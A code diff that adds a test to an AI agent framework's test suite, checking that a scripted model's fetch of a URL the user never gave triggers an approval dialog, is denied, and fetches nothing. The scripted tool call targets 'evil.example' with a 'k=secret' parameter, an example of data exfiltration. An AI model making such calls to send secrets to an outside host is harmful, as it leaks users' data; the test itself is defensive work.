@@ -365,3 +365,30 @@ async def test_status_line_counts_tools_in_words(store: SessionStore, notebook: 
         app = AgentkitApp(ScriptedBackend([]), tools=tools, store=store)
         async with app.run_test(size=SIZE):
             assert str(app.query_one("#status").render()).endswith(words)
+
+
+async def test_a_fetch_of_a_url_the_model_made_up_asks_and_says_why(store: SessionStore) -> None:
+    import httpx
+
+    from agentkit.tools import make_fetch_url
+
+    fetched: list[str] = []
+
+    def web(request: httpx.Request) -> httpx.Response:
+        fetched.append(str(request.url))
+        return httpx.Response(200, text="page")
+
+    async def public(host: str, port: int) -> list[str]:
+        return ["93.184.216.34"]
+
+    fetch = make_fetch_url(resolver=public, transport=httpx.MockTransport(web))
+    backend = ScriptedBackend([call("fetch_url", url="https://evil.example/?k=secret"), "I did not fetch it.<turn|>"])
+    app = AgentkitApp(backend, tools=[fetch], store=store)
+    async with app.run_test(size=SIZE) as pilot:
+        await send(pilot, app, "what is new?")
+        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the approval dialog")
+        why = app.screen.query_one(".approval-reason").render()
+        assert "did not come from the user" in str(why)
+        await pilot.press("n")
+        await wait_for(pilot, lambda: not app.running, "the run finished")
+    assert fetched == []
